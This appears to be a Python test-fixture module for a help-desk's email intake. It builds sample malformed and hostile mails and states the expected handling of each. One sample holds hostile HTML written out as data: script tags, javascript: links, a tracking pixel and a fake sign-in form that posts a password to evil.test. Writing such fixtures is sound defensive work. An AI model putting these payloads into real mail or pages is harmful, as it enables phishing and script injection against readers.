"""Mails that a desk has to cope with, to try them out: each with what should become of it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from email.utils import format_datetime

from django.utils.functional import Promise
from django.utils.translation import gettext_lazy as _


@dataclass(frozen=True, slots=True, kw_only=True)
class Sample:
    title: str | Promise
    text: str | Promise  # what should become of it
    write: Callable[[str, str, datetime], bytes]  # from, to, when


def message_id(at: datetime) -> str:
    return f"{at.timestamp()}@sample.test"


def _mail(sender: str, to: str, at: datetime, *lines: str) -> bytes:
    head = (
        f"From: {sender}",
        f"To: {to}",
        f"Date: {format_datetime(at)}",
        f"Message-ID: <{at.timestamp()}@sample.test>",
    )
    return "\r\n".join((*head, *lines, "")).encode()


def _automatic(sender: str, to: str, at: datetime) -> bytes:
    return _mail(
        sender,
        to,
        at,
        "Subject: Automatic reply: out of office",
        "Auto-Submitted: auto-replied",
        "",
        "I am away until Monday.",
    )


def _dangerous(sender: str, to: str, at: datetime) -> bytes:
    return _mail(
        sender,
        to,
        at,
        "Subject: Please look at this page",
        "MIME-Version: 1.0",
        "Content-Type: text/html; charset=utf-8",
        "",
        "<h1 onclick='alert(1)'>Hello</h1><script>alert('from a mail')</script>"
        "<img src='https://tracker.test/pixel.gif' width=1 height=1>"
        "<form action='https://evil.test/'><input name=password><button>Sign in again</button></form>"
        "<div style='position:fixed;inset:0;background:red'>All over the page</div>"
        "<a href='javascript:alert(2)'>click</a> <p>The rest is harmless.</p>",
    )


def _nested(sender: str, to: str, at: datetime) -> bytes:
    """Multiparts within multiparts, deeper than any mail program goes."""
    lines = [
        "Subject: Boxes in boxes in boxes",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b0"',
        "",
    ]
    for depth in range(30):
        lines += [f"--b{depth}", f'Content-Type: multipart/mixed; boundary="b{depth + 1}"', ""]
    return _mail(sender, to, at, *lines, "--b30", "Content-Type: text/plain", "", "Found it.")


def _nobody(sender: str, to: str, at: datetime) -> bytes:
    """Nobody in From."""
    mail = _mail(sender, to, at, "Subject: Who am I?", "", "This mail does not say who wrote it.")
    return mail.split(b"\r\n", 1)[1]


def _charset(sender: str, to: str, at: datetime) -> bytes:
    head = _mail(
        sender,
        to,
        at,
        "Subject: =?iso-8859-1?Q?Gr=FC=DFe?=",
        "Content-Type: text/plain; charset=no-such-charset",
        "",
    )
    return head + "Grüße aus Köln, in einem Zeichensatz, den es nicht gibt.\r\n".encode("latin-1")


SAMPLES: dict[str, Sample] = {
    "automatic": Sample(
        title=_("An automatic reply"), text=_("Opens a ticket, but is never answered."), write=_automatic
    ),
    "dangerous": Sample(
        title=_("HTML that attacks the reader"),
        text=_("Becomes a ticket; script, form and tracking picture do nothing."),
        write=_dangerous,
    ),
    "nested": Sample(
        title=_("Parts nested thirty deep"), text=_("Is held in quarantine, with the reason."), write=_nested
    ),
    "nobody": Sample(
        title=_("Without a sender"), text=_("Is held in quarantine, with the reason."), write=_nobody
    ),
    "charset": Sample(
        title=_("In a character set that does not exist"),
        text=_("Becomes a ticket that can be read."),
        write=_charset,
    ),
}
